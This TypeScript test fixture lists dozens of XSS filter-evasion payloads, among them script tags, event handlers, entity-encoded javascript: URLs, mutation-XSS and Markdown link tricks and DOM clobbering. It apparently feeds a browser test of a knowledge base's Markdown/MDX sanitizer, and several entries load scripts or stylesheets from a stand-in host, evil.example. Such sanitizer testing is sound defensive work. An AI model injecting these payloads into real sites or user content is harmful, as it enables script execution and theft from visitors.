/**
 * XSS filter-evasion payloads, grouped by the classes of OWASP's „XSS Filter Evasion Cheat
 * Sheet“ and the mutation-XSS literature, each as an entry body would carry it. A payload
 * that runs fires `alert`, or sets `window.xssFired`, so the browser test can tell.
 *
 * `mdx`: how the payload is meaningful in an `.mdx` entry: `markdown` (the same text, which
 * MDX reads as Markdown and the build renders), or a JSX form that the knowledge-base check
 * must refuse. Payloads that are no valid MDX at all (`<img src=x …>` unquoted, `<!-- -->`)
 * are stopped by the MDX parser itself and have no `.mdx` form here.
 */
export interface Payload {
  name: string;
  payloadClass: string;
  /** The `.md` body; absent where the payload only means something in MDX. */
  md?: string;
  /** `markdown`: `md` again as `.mdx`, built; `body`: an `.mdx` body that builds; `jsx`: refused with `code`. */
  mdx?: 'markdown' | { body: string } | { jsx: string; code: 'mdx-element' | 'mdx-code' };
}

const FIRE = 'window.xssFired=1;alert(1)';

export const PAYLOADS: Payload[] = [
  // Script elements
  {
    name: 'script',
    payloadClass: 'script tag',
    md: `<script>${FIRE}</script>`,
    mdx: { jsx: '<script src="https://evil.example/x.js"></script>', code: 'mdx-element' },
  },
  {
    name: 'script-mixed-case',
    payloadClass: 'script tag, mixed case',
    md: `<ScRiPt>${FIRE}</sCrIpT>`,
    mdx: { jsx: '<SCRIPT src="https://evil.example/x.js" />', code: 'mdx-element' },
  },
  {
    name: 'script-src-external',
    payloadClass: 'script tag, external source',
    md: '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  },
  {
    name: 'script-nested-split',
    payloadClass: 'script tag, split to survive one-pass filters',
    md: `<scr<script>ipt>${FIRE}</scr</script>ipt>`,
  },
  {
    name: 'script-extraneous-brackets',
    payloadClass: 'script tag, extraneous open brackets',
    md: `<<SCRIPT>${FIRE};//<</SCRIPT>`,
  },
  {
    name: 'script-in-expression',
    payloadClass: 'script tag as MDX expression',
    md: `<script>{${FIRE}}</script>`,
    mdx: { jsx: `<script>{"${FIRE}"}</script>`, code: 'mdx-code' },
  },
  // Event handlers
  {
    name: 'img-onerror',
    payloadClass: 'event handler on img',
    md: `<img src=x onerror="${FIRE}">`,
    mdx: { jsx: `<img src="x" onError="${FIRE}" />`, code: 'mdx-element' },
  },
  {
    name: 'img-onerror-no-quotes',
    payloadClass: 'event handler, no quotes, no spaces',
    md: '<IMG SRC=/ onerror="window.xssFired=1"></img>',
  },
  {
    name: 'svg-onload',
    payloadClass: 'event handler on svg',
    md: `<svg onload="${FIRE}"></svg>`,
    mdx: { jsx: `<svg onLoad="${FIRE}" />`, code: 'mdx-element' },
  },
  {
    name: 'svg-animate',
    payloadClass: 'svg animation event',
    md: `<svg><animate onbegin="${FIRE}" attributeName=x dur=1s>`,
  },
  {
    name: 'body-onload',
    payloadClass: 'event handler on body',
    md: `<body onload="${FIRE}">Text</body>`,
    mdx: { jsx: `<body onLoad="${FIRE}">Text</body>`, code: 'mdx-element' },
  },
  {
    name: 'details-ontoggle',
    payloadClass: 'event handler on details (allowed element)',
    md: `<details open ontoggle="${FIRE}"><summary>Mehr</summary>Text</details>`,
    mdx: { jsx: `<details open onToggle="${FIRE}">Text</details>`, code: 'mdx-element' },
  },
  {
    name: 'bold-onmouseover',
    payloadClass: 'event handler on an allowed inline element',
    md: `<b onmouseover="${FIRE}" onclick="${FIRE}">fett</b>`,
  },
  {
    name: 'input-autofocus',
    payloadClass: 'event handler fired by autofocus',
    md: `<input autofocus onfocus="${FIRE}">`,
  },
  {
    name: 'media-onerror',
    payloadClass: 'event handler on audio/video/source',
    md: `<video><source onerror="${FIRE}"></video><audio src=x onerror="${FIRE}"></audio>`,
  },
  {
    name: 'hinweis-onclick',
    payloadClass: 'event handler on a content component',
    mdx: { jsx: `<Hinweis titel="Achtung" onClick="${FIRE}">Text</Hinweis>`, code: 'mdx-element' },
  },
  {
    name: 'hinweis-set-html',
    payloadClass: 'Astro directive on a content component',
    mdx: { jsx: `<Hinweis set:html="<img src=x onerror='${FIRE}'>" />`, code: 'mdx-element' },
  },
  {
    name: 'hinweis-expression',
    payloadClass: 'expression in a component attribute',
    mdx: { jsx: '<Hinweis titel={(window.xssFired = 1)}>Text</Hinweis>', code: 'mdx-code' },
  },
  {
    name: 'hinweis-title-breakout',
    payloadClass: 'attribute breaking out of quotes (component)',
    mdx: {
      body: `<Hinweis titel='"><script>${FIRE}</script><img src=x onerror="${FIRE}">'>Text</Hinweis>`,
    },
  },
  // javascript: URLs and their encodings
  {
    name: 'href-javascript',
    payloadClass: 'javascript: URL',
    md: `<a href="javascript:${FIRE}">Link</a>`,
    mdx: { jsx: `<a href="javascript:${FIRE}">Link</a>`, code: 'mdx-element' },
  },
  {
    name: 'href-mixed-case',
    payloadClass: 'javascript: URL, mixed case',
    md: `<a href="JaVaScRiPt:${FIRE}">Link</a>`,
  },
  {
    name: 'href-decimal-entities',
    payloadClass: 'javascript: URL, decimal character references',
    md: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.xssFired=1">Link</a>',
  },
  {
    name: 'href-decimal-no-semicolon',
    payloadClass: 'javascript: URL, zero-padded decimal references without semicolons',
    md: '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058window.xssFired=1">Link</a>',
  },
  {
    name: 'href-hex-no-semicolon',
    payloadClass: 'javascript: URL, hex references without semicolons',
    md: '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3Awindow.xssFired=1">Link</a>',
  },
  {
    name: 'href-named-colon',
    payloadClass: 'javascript: URL, named references (&colon; &Tab;)',
    md: '<a href="javascript&colon;window.xssFired=1">A</a> <a href="java&Tab;script:window.xssFired=1">B</a>',
  },
  {
    name: 'href-embedded-tab',
    payloadClass: 'javascript: URL, embedded tab (raw and encoded)',
    md: '<a href="jav\tascript:window.xssFired=1">A</a> <a href="jav&#x09;ascript:window.xssFired=1">B</a>',
  },
  {
    name: 'href-embedded-newline',
    payloadClass: 'javascript: URL, embedded newline and carriage return',
    md: '<a href="jav&#x0A;ascript:window.xssFired=1">A</a> <a href="jav&#x0D;ascript:window.xssFired=1">B</a>',
  },
  {
    name: 'href-leading-controls',
    payloadClass: 'javascript: URL, leading spaces and control characters',
    md: '<a href=" &#14;  javascript:window.xssFired=1">A</a> <a href="&#1;javascript:window.xssFired=1">B</a>',
  },
  {
    name: 'href-nul',
    payloadClass: 'javascript: URL, embedded NUL',
    md: '<a href="java\u0000script:window.xssFired=1">A</a> <a href="java&#0;script:window.xssFired=1">B</a>',
  },
  {
    name: 'href-vbscript',
    payloadClass: 'vbscript: URL',
    md: '<a href="vbscript:msgbox(1)">Link</a>',
  },
  {
    name: 'href-data',
    payloadClass: 'data: URL',
    md: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">A</a> <img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="x">',
  },
  {
    name: 'img-src-javascript',
    payloadClass: 'javascript: in img src, srcset and picture',
    md: '<img src="javascript:window.xssFired=1" alt="a"> <img srcset="javascript:window.xssFired=1 1x" alt="b"> <picture><source srcset="javascript:window.xssFired=1"></picture>',
  },
  // Embedding
  {
    name: 'iframe-srcdoc',
    payloadClass: 'iframe srcdoc',
    md: `<iframe srcdoc="<script>${FIRE}</script>"></iframe>`,
    mdx: { jsx: `<iframe srcDoc="<script>${FIRE}</script>" />`, code: 'mdx-element' },
  },
  {
    name: 'iframe-javascript',
    payloadClass: 'iframe with javascript: src',
    md: `<iframe src="javascript:${FIRE}"></iframe>`,
  },
  {
    name: 'object-embed',
    payloadClass: 'object and embed',
    md: `<object data="javascript:${FIRE}"></object><embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
    mdx: { jsx: `<object data="javascript:${FIRE}" />`, code: 'mdx-element' },
  },
  {
    name: 'svg-script-xlink',
    payloadClass: 'svg with script and xlink:href',
    md: `<svg><script>${FIRE}</script><a xlink:href="javascript:${FIRE}"><text x="0" y="20">SVG</text></a></svg>`,
  },
  {
    name: 'math-href',
    payloadClass: 'MathML with href and mutation',
    md: `<math><mi xlink:href="javascript:${FIRE}">x</mi></math><math><mtext><table><mglyph><style><img src=x onerror="${FIRE}">`,
  },
  // Page-level takeovers
  {
    name: 'meta-refresh',
    payloadClass: 'meta refresh',
    md: `<meta http-equiv="refresh" content="0;url=javascript:${FIRE}">`,
  },
  {
    name: 'base-href',
    payloadClass: 'base href',
    md: '<base href="javascript:window.xssFired=1//">',
  },
  {
    name: 'form-action',
    payloadClass: 'form action and formaction',
    md: `<form action="javascript:${FIRE}"><button formaction="javascript:${FIRE}">Senden</button><input type="image" src="javascript:${FIRE}"></form>`,
    mdx: {
      jsx: `<form action="javascript:${FIRE}"><button>Senden</button></form>`,
      code: 'mdx-element',
    },
  },
  {
    name: 'style-expression',
    payloadClass: 'style attribute with expression() and url(javascript:)',
    md: '<div style="width: expression(alert(1))">A</div> <p style="background:url(javascript:window.xssFired=1)">B</p>',
  },
  {
    name: 'style-import',
    payloadClass: 'style element with @import, link stylesheet',
    md: '<style>@import \'https://evil.example/x.css\'; body{background:url(javascript:alert(1))}</style><link rel=stylesheet href="javascript:alert(1)">',
    mdx: { jsx: '<style>{"@import url(https://evil.example/x.css)"}</style>', code: 'mdx-code' },
  },
  // Breaking out of attributes and contexts
  {
    name: 'attribute-quote-breakout',
    payloadClass: 'attribute breaking quotes',
    md: `<img src="x" alt="a"onerror="${FIRE}"> <a href="https://example.org" title='a' onmouseover=${FIRE}>Link</a>`,
  },
  {
    name: 'malformed-img-quotes',
    payloadClass: 'malformed tag with quotes',
    md: `<IMG """><SCRIPT>${FIRE}</SCRIPT>">`,
  },
  { name: 'unclosed-tag', payloadClass: 'half-open tag', md: `<img src=x onerror="${FIRE}"//` },
  {
    name: 'noscript-breakout',
    payloadClass: 'mutation via noscript/textarea/title',
    md: `<noscript><p title="</noscript><img src=x onerror=${FIRE}>"></noscript> <textarea><script>${FIRE}</script></textarea> <title><img src=x onerror="${FIRE}"></title>`,
  },
  {
    name: 'xmp-template',
    payloadClass: 'raw-text elements xmp and template',
    md: `<xmp><script>${FIRE}</script></xmp><template><img src=x onerror="${FIRE}"></template>`,
  },
  {
    name: 'comment-script',
    payloadClass: 'comments and conditional comments',
    md: `<!--<script>${FIRE}</script>--> <!--[if gte IE 4]><script>${FIRE}</script><![endif]-->`,
  },
  {
    name: 'cdata',
    payloadClass: 'CDATA section',
    md: `<![CDATA[<script>${FIRE}</script>]]> <svg><![CDATA[<script>${FIRE}</script>]]></svg>`,
  },
  // Markdown syntax
  {
    name: 'markdown-link',
    payloadClass: 'Markdown link with javascript:',
    md: `[Link](javascript:${FIRE}) [Link2](JAVASCRIPT:alert(1))`,
    mdx: 'markdown',
  },
  {
    name: 'markdown-link-encoded',
    payloadClass: 'Markdown link with character references and escapes',
    md: '[A](&#106;avascript:alert(1)) [B](javascript&#58;alert(1)) [C](JaVaScRiPt&colon;alert(1)) [D](data:text/html,<script>alert(1)</script>)',
    mdx: 'markdown',
  },
  {
    name: 'markdown-link-title',
    payloadClass: 'Markdown link title breaking out',
    md: `[Link](https://example.org "\\"><script>${FIRE}</script>") [B](https://example.org 'x" onmouseover="${FIRE}')`,
    mdx: 'markdown',
  },
  {
    name: 'markdown-image',
    payloadClass: 'Markdown image with javascript: and data:',
    md: `![Bild](javascript:${FIRE}) ![SVG](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
    mdx: 'markdown',
  },
  {
    name: 'autolink',
    payloadClass: 'autolinks',
    md: `<javascript:${FIRE}> <vbscript:msgbox(1)> <data:text/html,x>`,
  },
  {
    name: 'reference-definition',
    payloadClass: 'reference definitions',
    md: '[Ref][r] ![Bild][i]\n\n[r]: javascript:window.xssFired=1 "Titel"\n[i]: <vbscript:msgbox(1)>',
    mdx: 'markdown',
  },
  // DOM clobbering
  {
    name: 'clobber-img-name',
    payloadClass: 'id/name clobbering with img name',
    md: '<img name="body" alt="x" src="/x.png"> <img name="cookie" id="location" alt="y" src="/y.png">',
  },
  {
    name: 'clobber-page-ids',
    payloadClass: 'id clobbering of the page’s own ids',
    md: '<form id="site-search-input"><input name="q"></form> <a id="inhalt" name="quellen">A</a> <span id="kennzahlen">B</span> <div id="__proto__">C</div>',
  },
];
